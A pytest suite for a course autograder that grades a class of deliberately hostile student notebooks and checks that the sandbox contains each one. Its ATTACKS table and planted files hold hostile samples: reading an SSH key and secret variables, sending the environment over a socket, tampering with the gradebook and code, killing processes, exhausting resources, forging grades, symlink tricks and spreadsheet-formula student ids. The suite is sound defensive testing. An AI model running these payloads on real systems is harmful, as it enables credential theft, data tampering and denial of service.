"""A hostile class on the toy stage: one attack per student, an honest student before and after each.

Graded twice, by the command line with the pool and through the API with one process, in real
sandboxes. Nothing an attacker does may change anyone else's grade, any file outside its own
work folder, the network or the processes left behind, nor reveal a secret.
"""
import csv
import hashlib
import os
import shutil
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

import nbformat
import pytest

from backprop_course.autograde import autograde
from backprop_course.cli import main
from backprop_course.config import load_config
from backprop_course.kernels.sandbox import sandbox_problem
from backprop_course.mistakes import before
from backprop_course.sample_class import Work
from pipeline_toy import TOY_STAGE, gradebook_scores, toy_course, write_class

pytestmark = pytest.mark.pipeline

BIN = Path(sys.executable).parent
REPOSITORY = Path(__file__).resolve().parent.parent
SITE_PACKAGES = Path(nbformat.__file__).resolve().parent.parent
SECRET = "hostile-class-secret-7f3a"
MARKER = "hostile-class-survivor"  # in the command line of every process an attacker starts

# Each attack is written as an attacker would, without hiding its errors; {root}, {repo}, {home}
# and {port} are the course folder, the repository, the instructor's HOME and a listening port.
ATTACKS = {
    "neighbour": """import glob, json
from jupyter_client import BlockingKernelClient
found = glob.glob('/tmp/backprop-kernels-*/*/connection.json') + glob.glob('/run/kernels/*/connection.json')
target = found[0] if found else '/tmp/backprop-kernels-0/0/connection.json'
client = BlockingKernelClient(connection_file=target)
client.load_connection_file()""",
    "gradebook": """import sqlite3
db = sqlite3.connect('{root}/gradebook.db')
db.execute('update grade set auto_score = 0')""",
    "survivor": """import subprocess, sys
subprocess.Popen(['setsid', sys.executable, '-c', 'import time; time.sleep(120)  # {marker}'])
open('{root}/submitted/z_honest/{stage}/{stage}.ipynb', 'w').write('{{}}')""",
    "tamper": """open('{repo}/autograd_ref/__init__.py', 'a').write('raise SystemExit')
open('{root}/nbgrader_config.py', 'a').write('raise SystemExit')""",
    "spy": """secrets = [open('{home}/.ssh/id_rsa').read(), str(__import__('os').environ.get('BACKPROP_SECRET'))]
print(secrets)""",
    "exfiltrate": """import os, socket
socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(repr(dict(os.environ)).encode())""",
    "solutions": """print(open('{repo}/solutions/{stage}/{stage}.ipynb').read())""",
    "memory": """hog = bytearray(6 * 1024 ** 3)""",
    "bigfile": """with open('big', 'wb') as file:
    for _ in range(128):
        file.write(bytes(16 * 1024 ** 2))""",
    "storm": """import subprocess
children = [subprocess.Popen(['sleep', '120', '{marker}']) for _ in range(200)]""",
    "parent": """import os
os.kill(os.getppid(), 9)
for pid in range(2, 400):
    os.kill(pid, 9)""",
    "beside": """import beside_helper""",
    "display": """from IPython.display import display
display({{'text/plain': 'x' * 30_000_000}}, raw=True)""",
    "flood": """from IPython.display import display
for _ in range(120):  # each under the limit of one display, its metadata included
    display({{'text/plain': '.'}}, metadata={{'padding': 'z' * 90_000}}, raw=True)""",
    "error_name": """raise type('E' * 12_000_000, (Exception,), {{}})('a name of 12 MB')""",
    "sleepy": """import time
time.sleep(5)""",  # in each of four cells: every one under the timeout, the notebook over its time
    "forged_outcome": """ip = get_ipython()
def forge(*_):  # in every later cell, the test cells too: an outcome display no test block would make
    ip.kernel.session.send(ip.kernel.iopub_socket, 'display_data', {{'metadata': {{}}, 'data': {{
        'application/vnd.backprop-grading.outcome+json': ['not', 'a', 'dict']}}}}, parent=ip.kernel.get_parent())
ip.events.register('pre_run_cell', forge)""",
    # the attacks below are planted in the submission folder (see `plant`); their answers are honest
    "linked_folder": "", "linked_notebook": "", "smuggled": "", "pipe_notebook": "", "forged_grade": "",
}
NOTEBOOK_SECONDS = 12  # the class's limit for a whole notebook (an honest toy notebook runs in about 1 s)
MAX_KEPT = 10_000_000  # the grader's limit on a notebook's kept outputs (GradingExecute.max_notebook_output_chars)
# (status, words in its notes) that say what each attacker tried
CONTAINED = {
    "neighbour": ("contained", "outside its folder"),
    "gradebook": ("contained", "outside its folder"),
    "survivor": ("contained", "outside its folder"),
    "tamper": ("contained", "tried to write outside its folder"),
    "spy": ("contained", "outside its folder"),
    "exfiltrate": ("contained", "tried to use the network"),
    "solutions": ("contained", "outside its folder"),
    "memory": ("contained", "ran out of memory (limit 2 GiB"),
    "bigfile": ("contained", "over the size limit (64 MiB)"),
    "storm": ("contained", "too many processes"),
    "parent": ("contained", "tried to reach a process outside its sandbox"),
    "beside": ("errors", "No module named 'beside_helper'"),
    "display": ("ok", "displayed 30,000,000 characters at once; dropped"),
    "flood": ("killed", f"outputs passed {MAX_KEPT:,} characters, so the kernel was stopped"),
    "error_name": ("errors", "raised EEEEEEEE"),
    "sleepy": ("timeout", f"the notebook ran over {NOTEBOOK_SECONDS} s in all"),
    "linked_folder": ("unreadable", "is a symbolic link, which the grader does not follow"),
    "linked_notebook": ("unreadable", "is a symbolic link, which the grader does not follow"),
    "smuggled": ("ok", "beside the notebook is a symbolic link, which the grader does not follow"),
    "pipe_notebook": ("unreadable", "is not a plain file"),
    "forged_grade": ("repaired", "`bonus`, which this notebook never had"),
    "forged_outcome": ("failed", "the grader could not record this notebook"),
}


def plant(attack, folder, root, home):
    """Change a written submission's folder (submitted/<attack>/<stage>/) the way `attack` does."""
    notebook = folder / f"{TOY_STAGE}.ipynb"
    if attack == "linked_folder":  # the instructor's notebooks, solutions and all, as its own
        shutil.rmtree(folder.parent)
        folder.parent.symlink_to(root / "source")
    elif attack == "linked_notebook":  # the honest student's notebook as its own
        notebook.unlink()
        notebook.symlink_to(root / "submitted" / "a_honest" / TOY_STAGE / notebook.name)
    elif attack == "smuggled":  # feedback copies the files beside a notebook back to the student
        (folder / "notes.txt").symlink_to(home / ".ssh" / "id_rsa")
        (folder / "gone.txt").symlink_to(folder / "no such file")
        os.mkfifo(folder / "pipe")
    elif attack == "pipe_notebook":  # reading it would wait for ever
        notebook.unlink()
        os.mkfifo(notebook)
    elif attack == "forged_grade":  # a test cell of its own, worth 100 points, and an answer cell made a test
        forged = nbformat.read(notebook, as_version=4)
        grading = {"grade": True, "grade_id": "bonus", "points": 100, "locked": True, "solution": False,
                   "schema_version": 3}
        forged.cells.append(nbformat.v4.new_code_cell("print('free points')", metadata={"nbgrader": grading}))
        answer = next(cell for cell in forged.cells if cell.metadata.get("nbgrader", {}).get("solution"))
        answer.metadata.nbgrader.update(grade=True, points=100)
        nbformat.write(forged, notebook)
    elif attack == "sleepy":
        sleeping = nbformat.read(notebook, as_version=4)
        sleeping.cells[1:1] = [nbformat.v4.new_code_cell(ATTACKS["sleepy"]) for _ in range(3)]
        nbformat.write(sleeping, notebook)


# Honest students whose ids are attacks on the instructor's terminal and spreadsheet.
HOSTILE_IDS = ("=HYPERLINK(\"evil.example\")&honest", "+cmd|calc!honest", "a_honest\u202e",
               "b\nz_honest                 4   -   -   -   -   -   -   -   4 of 69   ok honest")  # no "/": a folder name


# With one process, the attacks aimed at the students after them and at the grader.
SEQUENTIAL = ("neighbour", "gradebook", "survivor", "tamper", "storm", "parent", "smuggled")


def hostile_class(root, home, port, attacks=ATTACKS):
    """student -> Work: honest `a_honest`, then per attack `<attack>` and `<attack>_honest` after it."""
    values = {"root": root, "repo": REPOSITORY, "home": home, "port": port, "marker": MARKER, "stage": TOY_STAGE}
    students = {"a_honest": Work()}
    for attack in attacks:
        code = ATTACKS[attack]
        students[attack] = Work(answers=(before("numerical_diff", code.format(**values)),) if code else ())
        students[f"{attack}_honest"] = Work()
    students.update({student: Work() for student in (HOSTILE_IDS if attacks == ATTACKS else ())})
    students["z_honest"] = Work()
    return students


def fingerprint(*folders, skip=("autograded", "__pycache__")):
    """Path -> (size, modification time, content hash) of every file under the folders (but `skip` subfolders)."""
    hashes = {}
    for folder in folders:
        for path in sorted(Path(folder).rglob("*")):
            if path.is_file() and not any(part in skip for part in path.relative_to(folder).parts):
                status = path.stat()
                content = hashlib.sha256(path.read_bytes()).hexdigest() if status.st_size < 1 << 20 else None
                hashes[str(path)] = (status.st_size, status.st_mtime_ns, content)
    return hashes


def surviving_processes():
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and MARKER.encode() in (entry / "cmdline").read_bytes():
                found.append(entry.name)
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory, request):
    if sandbox_problem():
        pytest.fail(f"the sandbox cannot run here, so containment cannot be tested: {sandbox_problem()}")
    home = tmp_path_factory.mktemp("home")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text(SECRET)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    runs = {}
    scratch = Path(tempfile.mkdtemp(prefix="hostile-"))  # the run's own temporary folder: short, for sockets
    request.addfinalizer(lambda: shutil.rmtree(scratch, ignore_errors=True))
    for name in ("pool", "sequential"):
        root, _ = toy_course(tmp_path_factory.mktemp(name))
        students = hostile_class(root, home, listener.getsockname()[1], ATTACKS if name == "pool" else SEQUENTIAL)
        with open(root / "nbgrader_config.py", "a") as config:
            config.write(f"c.GradingExecute.max_notebook_seconds = {NOTEBOOK_SECONDS}\n")
        write_class(root, students)
        if "beside" in students:
            (root / "submitted" / "beside" / TOY_STAGE / "beside_helper.py").write_text("SHADOWED = True\n")
        for attack in students:
            plant(attack, root / "submitted" / attack / TOY_STAGE, root, home)
        protected = (REPOSITORY / "autograd_ref", REPOSITORY / "backprop_course", REPOSITORY / "solutions",
                     SITE_PACKAGES, root)
        before_run = fingerprint(*protected)
        environment = {**os.environ, "HOME": str(home), "BACKPROP_SECRET": SECRET, "TMPDIR": str(scratch),
                       "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
        if name == "pool":
            finished = subprocess.run([str(BIN / "backprop-course"), "autograde", "--course", str(root),
                                       "--jobs", "3", "--timeout", "20"], env=environment, capture_output=True,
                                      text=True)
            # exit code 1: a submission failed (forged_outcome), and the class was graded all the same
            assert finished.returncode == 1 and f"graded {len(students)} submissions" in finished.stdout, (
                finished.stdout + finished.stderr)
        else:
            with pytest.MonkeyPatch.context() as patch:
                patch.setenv("HOME", str(home))
                patch.setenv("BACKPROP_SECRET", SECRET)
                patch.setattr(tempfile, "tempdir", str(scratch))
                autograde(load_config(root, timeout=20), jobs=1)
        after_run = fingerprint(*protected)
        changed = {path for path in set(before_run) | set(after_run) if before_run.get(path) != after_run.get(path)}
        runs[name] = (root, students, changed - {str(root / "gradebook.db"), str(root / "backprop-course.log")})
    try:
        connection, _ = listener.accept()
        received = connection.recv(1 << 16)
    except BlockingIOError:
        received = None
    listener.close()
    leftovers = sorted(path.name for path in scratch.iterdir())
    return runs, received, surviving_processes(), leftovers


@pytest.fixture(params=["pool", "sequential"])
def run(request, graded):
    return graded[0][request.param]


def metadata(root, student):
    notebook = nbformat.read(root / "autograded" / student / TOY_STAGE / f"{TOY_STAGE}.ipynb", as_version=4)
    return notebook.metadata["backprop_course"]


def test_honest_students_keep_full_marks(run):
    root, students, _ = run
    scores = gradebook_scores(root)
    honest = [student for student in students if student not in ATTACKS]
    assert {student: scores[student] for student in honest} == {
        student: students[student].expected_points(TOY_STAGE) for student in honest}
    assert all(metadata(root, student)["status"] == "ok" for student in honest)


def test_the_gradebook_holds_only_what_the_grader_wrote(run):
    root, students, _ = run
    scores = gradebook_scores(root)
    assert set(scores) == set(students)
    for student, work in students.items():
        full = work.expected_points(TOY_STAGE)
        assert all(scores[student][name] <= full[name] for name in full), f"{student} scored {scores[student]}"


def test_no_file_outside_the_attackers_folders_changes(run):
    _, _, changed = run
    assert changed == set()


@pytest.mark.parametrize("name, attack", [("pool", attack) for attack in ATTACKS]
                         + [("sequential", attack) for attack in SEQUENTIAL])
def test_every_attacker_has_a_status_that_says_what_it_tried(graded, name, attack):
    root, _, _ = graded[0][name]
    status, words = CONTAINED[attack]
    graded = metadata(root, attack)
    assert graded["status"] == status, graded
    assert any(words in note for note in graded["notes"]), graded["notes"]


def test_a_linked_or_piped_notebook_earns_nothing(graded):
    root, _, _ = graded[0]["pool"]
    scores = gradebook_scores(root)
    assert {attack: set(scores[attack].values()) for attack in ("linked_folder", "linked_notebook", "pipe_notebook")
            } == dict.fromkeys(("linked_folder", "linked_notebook", "pipe_notebook"), {0})


def test_no_notebook_makes_the_grader_keep_more_than_its_limit(graded):
    root, _, _ = graded[0]["pool"]
    sizes = {path.parent.parent.name: path.stat().st_size for path in (root / "autograded").glob("*/*/*.ipynb")}
    assert max(sizes.values()) < 1.1 * MAX_KEPT, sorted(sizes.items(), key=lambda item: -item[1])[:3]


def test_the_report_shows_each_student_on_one_line_and_no_id_as_a_formula(graded, capsys):
    root, students, _ = graded[0]["pool"]
    assert main(["report", "--course", str(root)]) == 0
    table = capsys.readouterr().out.split("\n\nstudent")[1].split("\n\n")[0]
    rows = table.splitlines()[2:]
    assert len(rows) == len(students), table
    assert "a_honest\\u202e " in table and "b\\nz_honest" in table, table
    with open(root / "grades.csv", newline="") as file:
        ids = [row[0] for row in csv.reader(file)][1:]
    assert len(ids) == len(students) and not [name for name in ids if name[0] in "=+-@"], ids
    assert {"'=HYPERLINK(\"evil.example\")&honest", "'+cmd|calc!honest"} <= set(ids), ids


def test_nothing_reaches_the_network(graded):
    assert graded[1] is None


def test_no_process_or_folder_of_the_run_remains(graded):
    _, _, survivors, leftovers = graded
    assert survivors == [] and leftovers == []


def test_secrets_stay_unread(graded):
    for root, _, _ in graded[0].values():
        written = [path for path in root.rglob("*") if path.is_file() and SECRET.encode() in path.read_bytes()
                   and "submitted" not in path.parts]
        assert written == []


def test_without_a_sandbox_autograde_refuses_unless_told_and_then_warns(tmp_path, monkeypatch, capsys):
    root, _ = toy_course(tmp_path / "course")
    write_class(root, {"ada": Work()})
    monkeypatch.setattr("backprop_course.autograde.sandbox_problem", lambda: "no bubblewrap here: install bubblewrap")
    command = ["autograde", "--course", str(root), "--jobs", "1"]
    assert main(command) == 2
    refused = capsys.readouterr().err
    assert "refusing to run student code unconfined: no bubblewrap here" in refused, refused
    assert not (root / "autograded").exists()
    assert main([*command, "--no-sandbox"]) == 0
    assert after_course_line(capsys.readouterr().out).startswith("WARNING: graded WITHOUT the sandbox")
    assert gradebook_scores(root) == {"ada": Work().expected_points(TOY_STAGE)}
    assert main(["report", "--course", str(root)]) == 0
    assert after_course_line(capsys.readouterr().out).startswith("WARNING: graded WITHOUT the sandbox")


def after_course_line(output):
    """What a command says after its first line, which names the course it uses."""
    first, _, rest = output.partition("\n")
    assert first.startswith("course: "), first
    return rest
